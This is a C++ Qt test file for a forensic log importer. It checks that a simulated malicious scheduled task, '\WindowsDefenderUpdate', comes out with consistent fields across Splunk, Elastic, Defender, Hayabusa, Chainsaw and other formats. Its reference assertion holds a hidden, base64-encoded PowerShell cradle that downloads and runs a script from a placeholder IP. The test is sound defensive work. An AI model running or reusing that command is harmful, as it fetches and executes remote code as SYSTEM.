#include "ingest/Importer.h"
#include "store/Statement.h"
#include "store/Workspace.h"

#include <QDirIterator>
#include <QTemporaryDir>
#include <QTest>

using namespace tb;

// The scenario's malicious task (FORMATS.md §13: `\WindowsDefenderUpdate` on WKS-FIN-023, created at
// 09:41 by schtasks from a Temp-folder parent) as every sample format sees it. However a source
// reports the task, it must come out with the same task_name, task_action and task_run_as (one
// spelling per account: S-1-5-18, SYSTEM and LocalSystem are all NT AUTHORITY\SYSTEM).
class TestCrossFormat : public QObject {
    Q_OBJECT
    QTemporaryDir m_dir;
    Workspace m_workspace;

    struct Seen {
        QString format, eventCode, name, action, runAs;
    };

    // The creation of the scenario task in every format, one row per event.
    QList<Seen> creations(const QString &extraCondition) {
        Statement q = m_workspace.database().prepare(
            QStringLiteral(
                "SELECT format, ifnull(event_code, ''), task_name, ifnull(task_action, ''), "
                "ifnull(task_run_as, '') FROM events WHERE host = 'wks-fin-023' AND task_name LIKE "
                "'%WindowsDefenderUpdate' AND task_operation = 'created' AND ") +
            extraCondition + QStringLiteral(" ORDER BY format, record_no"));
        QList<Seen> rows;
        while (q.step())
            rows.append(
                {q.columnText(0), q.columnText(1), q.columnText(2), q.columnText(3), q.columnText(4)});
        return rows;
    }

    static QStringList formatsOf(const QList<Seen> &rows) {
        QStringList formats;
        for (const Seen &s : rows) {
            if (!formats.contains(s.format))
                formats << s.format;
        }
        return formats;
    }

    // The reference: the Security 4698 event itself, as wevtutil renders it.
    Seen reference() {
        const QList<Seen> rows =
            creations(QStringLiteral("format = 'windows.event.xml' AND event_code = '4698'"));
        return rows.value(0);
    }

private slots:
    void initTestCase() {
        QVERIFY(m_workspace.open(m_dir.filePath(QStringLiteral("w.tunebench"))));
        Importer importer(m_workspace.database());
        QDirIterator files(QStringLiteral(TEST_DATA_DIR "/formats"), QDir::Files,
                           QDirIterator::Subdirectories);
        int imported = 0;
        while (files.hasNext()) {
            const QString file = files.next();
            const ImportSummary summary = importer.importFile(file, {});
            QVERIFY2(summary.ok(), qPrintable(file + QStringLiteral(": ") + summary.error));
            ++imported;
        }
        QCOMPARE(imported, 25);
        // The same host's Security log as a binary .evtx (constructed from its event XML).
        const ImportSummary evtx =
            importer.importFile(QStringLiteral(TEST_DATA_DIR "/native/evtx/wks-fin-023_security.evtx"), {});
        QVERIFY2(evtx.ok(), qPrintable(evtx.error));
        QCOMPARE(
            reference().action,
            QStringLiteral("powershell.exe -nop -w hidden -enc "
                           "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A"
                           "CkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALg"
                           "AwAC4AMQAxADMALgA1ADAALwBhAC4AcABzADEAJwApAA=="));
    }

    // The registration event (Security 4698, Defender's ScheduledTaskCreated) carries the task's
    // own definition: name, action and principal agree exactly, whoever shipped the event.
    void registrationAgreesEverywhere() {
        const Seen ref = reference();
        QCOMPARE(ref.name, QStringLiteral("\\WindowsDefenderUpdate"));
        QCOMPARE(ref.runAs, QStringLiteral("NT AUTHORITY\\SYSTEM"));
        const QList<Seen> rows = creations(QStringLiteral("event_code IN ('4698', 'ScheduledTaskCreated')"));
        const QStringList formats = formatsOf(rows);
        for (const char *format :
             {"splunk.export.json", "elastic.alerts.json", "windows.event.xml", "evtx.binary",
              "mde.advancedhunting.json", "hayabusa.csv", "hayabusa.jsonl"})
            QVERIFY2(formats.contains(QLatin1String(format)), format);
        for (const Seen &s : rows) {
            const QByteArray where = (s.format + QLatin1Char(' ') + s.eventCode).toUtf8();
            QVERIFY2(s.name == ref.name, where.constData());
            QVERIFY2(s.action == ref.action, where.constData());
            QVERIFY2(s.runAs == ref.runAs, where.constData());
        }
    }

    // Process creation of `schtasks /create … /tr … /ru SYSTEM` (Sysmon 1, 4688, EDR process events,
    // and the alerts built on them): the command line gives the same name, action and account.
    void commandLineViewsAgree() {
        const Seen ref = reference();
        const QList<Seen> rows = creations(QStringLiteral("command_line LIKE '%schtasks%'"));
        const QStringList formats = formatsOf(rows);
        for (const char *format :
             {"splunk.escu.csv", "splunk.results.xml", "elastic.alerts.json", "elastic.discover.csv",
              "windows.event.xml", "evtx.binary", "defender.advancedhunting.csv", "mde.alerts.json",
              "sentinel.securityalert.csv", "chainsaw.json", "chainsaw.jsonl", "chainsaw.csv",
              "zircolite.json", "zircolite.csv", "hayabusa.csv"})
            QVERIFY2(formats.contains(QLatin1String(format)), format);
        for (const Seen &s : rows) {
            const QByteArray where = (s.format + QLatin1Char(' ') + s.eventCode).toUtf8();
            QVERIFY2(s.name == ref.name, where.constData());
            QVERIFY2(s.action == ref.action, where.constData());
            QVERIFY2(s.runAs == ref.runAs, where.constData());
        }
    }

    // The views that only name the task (TaskScheduler 106, Chainsaw's persistence rule).
    void nameOnlyViewsAgree() {
        const Seen ref = reference();
        const QList<Seen> rows = creations(QStringLiteral("event_code = '106'"));
        const QStringList formats = formatsOf(rows);
        for (const char *format : {"evtx.libevtx_export", "chainsaw.json", "chainsaw.csv", "hayabusa.csv"})
            QVERIFY2(formats.contains(QLatin1String(format)), format);
        for (const Seen &s : rows)
            QVERIFY2(s.name == ref.name, s.format.toUtf8().constData());
    }

    // /ru SYSTEM on the command line and the principal S-1-5-18 in the definition are one account
    // written two ways: every event of the task, in every format, stores it one way, and the raw
    // record keeps the source's own spelling.
    void runAsIsOneSpelling() {
        Statement q = m_workspace.database().prepare(QStringLiteral(
            "SELECT DISTINCT task_run_as FROM events WHERE task_name = '\\WindowsDefenderUpdate' AND "
            "task_run_as IS NOT NULL ORDER BY 1"));
        QStringList spellings;
        while (q.step())
            spellings << q.columnText(0);
        QCOMPARE(spellings, QStringList({"NT AUTHORITY\\SYSTEM"}));

        Statement raw = m_workspace.database().prepare(
            QStringLiteral("SELECT format, raw FROM events WHERE task_name = '\\WindowsDefenderUpdate' AND "
                           "task_run_as IS NOT NULL"));
        int sid = 0, name = 0;
        while (raw.step()) {
            const QString text = raw.columnText(1);
            QVERIFY2(text.contains(QLatin1String("S-1-5-18")) || text.contains(QLatin1String("SYSTEM")),
                     qPrintable(raw.columnText(0)));
            sid += text.contains(QLatin1String("S-1-5-18")) ? 1 : 0;
            name += text.contains(QLatin1String("/ru SYSTEM"), Qt::CaseInsensitive) ? 1 : 0;
        }
        QVERIFY(sid > 0);
        QVERIFY(name > 0);
    }

    // Every task of the scenario whose principal more than one format reports: the formats agree
    // on it (Splunk, Elastic, Windows XML, Defender, Hayabusa, Chainsaw, Zircolite, Sentinel).
    void runAsAgreesAcrossFormats_data() {
        QTest::addColumn<QString>("task");
        QTest::addColumn<QString>("runAs");
        Statement q = m_workspace.database().prepare(QStringLiteral(
            "SELECT task_name, group_concat(DISTINCT task_run_as), count(DISTINCT format) FROM events "
            "WHERE task_run_as IS NOT NULL AND task_run_as != '' AND task_operation = 'created' "
            "GROUP BY task_name HAVING count(DISTINCT format) > 1 ORDER BY task_name"));
        int tasks = 0;
        while (q.step()) {
            QTest::newRow(qPrintable(q.columnText(0) + QStringLiteral(" (%1 formats)").arg(q.columnText(2))))
                << q.columnText(0) << q.columnText(1);
            ++tasks;
        }
        QVERIFY(tasks >= 3);
    }
    void runAsAgreesAcrossFormats() {
        QFETCH(QString, task);
        QFETCH(QString, runAs);
        QVERIFY2(!runAs.contains(QLatin1Char(',')), qPrintable(task + QStringLiteral(": ") + runAs));
    }
};

QTEST_GUILESS_MAIN(TestCrossFormat)
#include "tst_crossformat.moc"
